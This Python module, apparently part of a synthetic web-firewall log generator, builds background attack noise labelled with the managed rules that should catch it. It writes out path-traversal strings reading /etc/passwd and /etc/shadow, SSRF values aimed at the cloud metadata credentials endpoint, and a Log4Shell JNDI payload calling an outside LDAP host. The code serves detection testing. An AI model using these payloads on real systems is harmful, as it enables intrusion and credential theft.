"""Background internet noise present in every baseline: scanners on bad-reputation
addresses, path probes, LFI/SSRF/Log4Shell attempts, WordPress probes on non-WordPress
sites, requests without a User-Agent, sanctioned-country traffic. It gives every managed
rule a small, steady baseline against which spikes stand out.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ingest.generator.catalogue import (
    R_CRS,
    R_GEO,
    R_IPREP,
    R_KBI,
)
from ingest.generator.engine import Match
from ingest.generator.geography import client_ip
from ingest.generator.population import Client, browser_client, header, headers_fragment

SCANNER_COUNTRIES = ("RU", "CN", "NL", "US", "DE", "VN", "BR", "UA", "SG", "IN", "TR")
BAD_BOT_UAS = (
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Nuclei",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
)
CUSTOM_GROUPS = ("shop-custom-rules", "corp-custom-rules")


def custom(sub_rule: str) -> tuple[Match, ...]:
    """A customer rule group match, whichever of the customer groups the ACL has."""
    return tuple((group, sub_rule) for group in CUSTOM_GROUPS)


@dataclass(slots=True)
class NoiseRequest:
    client: Client
    method: str
    uri: str
    args: str
    matches: tuple[Match, ...]
    extra_headers: bytes = b""
    body: int = 0
    content_type: str = ""


class Noise:
    def __init__(self, rng: random.Random) -> None:
        self.scanners = [browser_client(rng, rng.choice(SCANNER_COUNTRIES)) for _ in range(300)]
        self.sanctioned = [
            browser_client(rng, c) for c in ("IR", "KP", "SY", "CU") for _ in range(20)
        ]
        self.no_ua = []
        for _ in range(60):
            country = rng.choice(SCANNER_COUNTRIES)
            self.no_ua.append(
                Client(
                    ip=client_ip(rng, country, 0.05),
                    country=country,
                    ua="",
                    headers=headers_fragment([("Accept", "*/*")]),
                    cookie=b"",
                    ja3=f"{rng.getrandbits(128):032x}",
                    ja4="t13d1812h1_85036bcba153_375ca2c5e164",
                    http_version="HTTP/1.1",
                    family="none",
                    capitalised=True,
                )
            )
        self.bad_bots = []
        for _ in range(60):
            country = rng.choice(SCANNER_COUNTRIES)
            ua = rng.choice(BAD_BOT_UAS)
            self.bad_bots.append(
                Client(
                    ip=client_ip(rng, country, 0.05),
                    country=country,
                    ua=ua,
                    headers=headers_fragment([("User-Agent", ua), ("Accept", "*/*")]),
                    cookie=b"",
                    ja3=f"{rng.getrandbits(128):032x}",
                    ja4="t13d1812h1_85036bcba153_b26ce05bbdd6",
                    http_version="HTTP/1.1",
                    family="scanner",
                    capitalised=True,
                )
            )
        self.kinds = (
            (30.0, self._reputation),
            (12.0, self._exploitable),
            (10.0, self._lfi),
            (8.0, self._log4j),
            (8.0, self._no_ua),
            (12.0, self._wordpress),
            (4.0, self._ssrf),
            (5.0, self._geo),
            (3.0, self._propfind),
            (5.0, self._bad_bot),
            (3.0, self._restricted),
        )
        self._weights = [w for w, _ in self.kinds]

    def request(self, rng: random.Random) -> NoiseRequest:
        kind = rng.choices(self.kinds, weights=self._weights)[0][1]
        return kind(rng)

    def _scanner(self, rng: random.Random) -> Client:
        return self.scanners[int(rng.random() * len(self.scanners))]

    def _reputation(self, rng: random.Random) -> NoiseRequest:
        sub = "AWSManagedIPReputationList" if rng.random() < 0.7 else "AWSManagedReconnaissanceList"
        uri = rng.choice(("/", "/login", "/products", "/api/v1/products", "/search"))
        return NoiseRequest(self._scanner(rng), "GET", uri, "", ((R_IPREP, sub),))

    def _exploitable(self, rng: random.Random) -> NoiseRequest:
        uri = rng.choice(
            ("/WEB-INF/web.xml", "/META-INF/MANIFEST.MF", "/web-inf/classes/app.properties")
        )
        return NoiseRequest(
            self._scanner(rng), "GET", uri, "", ((R_KBI, "ExploitablePaths_URIPATH"),)
        )

    def _restricted(self, rng: random.Random) -> NoiseRequest:
        uri = rng.choice(("/logs/error.log", "/php.ini", "/config/app.ini", "/debug.log"))
        return NoiseRequest(
            self._scanner(rng), "GET", uri, "", ((R_CRS, "RestrictedExtensions_URIPATH"),)
        )

    def _lfi(self, rng: random.Random) -> NoiseRequest:
        if rng.random() < 0.6:
            args = rng.choice(
                (
                    "file=../../../../etc/passwd",
                    "page=....//....//....//etc/passwd",
                    "template=..%2F..%2F..%2F..%2Fetc%2Fshadow",
                )
            )
            return NoiseRequest(
                self._scanner(rng),
                "GET",
                "/index.php",
                args,
                ((R_CRS, "GenericLFI_QUERYARGUMENTS"),),
            )
        return NoiseRequest(
            self._scanner(rng),
            "GET",
            "/static/../../../../etc/passwd",
            "",
            ((R_CRS, "GenericLFI_URIPATH"),),
        )

    def _log4j(self, rng: random.Random) -> NoiseRequest:
        octets = (
            rng.randrange(45, 200),
            rng.randrange(256),
            rng.randrange(256),
            rng.randrange(1, 255),
        )
        host = ".".join(map(str, octets))
        payload = "${jndi:ldap://" + host + ":1389/Basic/Command/Base64/d2dldCBodHRw}"
        if rng.random() < 0.6:
            return NoiseRequest(
                self._scanner(rng),
                "GET",
                "/",
                "",
                ((R_KBI, "Log4JRCE_HEADER"),),
                extra_headers=b"," + header("x-api-version", payload),
            )
        return NoiseRequest(
            self._scanner(rng), "GET", "/search", "q=" + payload, ((R_KBI, "Log4JRCE_QUERYSTRING"),)
        )

    def _no_ua(self, rng: random.Random) -> NoiseRequest:
        client = self.no_ua[int(rng.random() * len(self.no_ua))]
        uri = rng.choice(("/", "/robots.txt", "/.well-known/security.txt", "/favicon.ico"))
        return NoiseRequest(client, "GET", uri, "", ((R_CRS, "NoUserAgent_HEADER"),))

    def _wordpress(self, rng: random.Random) -> NoiseRequest:
        roll = rng.random()
        if roll < 0.5:
            uri, sub = (
                rng.choice(
                    (
                        "/wp-login.php",
                        "/wp-admin/setup-config.php",
                        "/wp-content/plugins/revslider/temp/update_extract/",
                    )
                ),
                "BlockWordPressProbes",
            )
        elif roll < 0.75:
            uri, sub = "/xmlrpc.php", "BlockXmlRpc"
        else:
            uri, sub = (
                rng.choice(("/admin", "/administrator/index.php", "/phpmyadmin/")),
                "BlockAdminPaths",
            )
        method = "POST" if uri == "/xmlrpc.php" else "GET"
        body = rng.randrange(200, 900) if method == "POST" else 0
        return NoiseRequest(
            self._scanner(rng),
            method,
            uri,
            "",
            custom(sub),
            body=body,
            content_type="text/xml" if body else "",
        )

    def _ssrf(self, rng: random.Random) -> NoiseRequest:
        args = rng.choice(
            (
                "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "redirect=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data",
            )
        )
        return NoiseRequest(
            self._scanner(rng), "GET", "/proxy", args, ((R_CRS, "EC2MetaDataSSRF_QUERYARGUMENTS"),)
        )

    def _geo(self, rng: random.Random) -> NoiseRequest:
        client = self.sanctioned[int(rng.random() * len(self.sanctioned))]
        return NoiseRequest(
            client, "GET", rng.choice(("/", "/products", "/category/sale")), "", ((R_GEO, None),)
        )

    def _propfind(self, rng: random.Random) -> NoiseRequest:
        return NoiseRequest(self._scanner(rng), "PROPFIND", "/", "", ((R_KBI, "PROPFIND_METHOD"),))

    def _bad_bot(self, rng: random.Random) -> NoiseRequest:
        client = self.bad_bots[int(rng.random() * len(self.bad_bots))]
        uri = rng.choice(("/", "/admin/", "/.well-known/", "/cgi-bin/test.cgi", "/server-status"))
        return NoiseRequest(client, "GET", uri, "", ((R_CRS, "UserAgent_BadBots_HEADER"),))
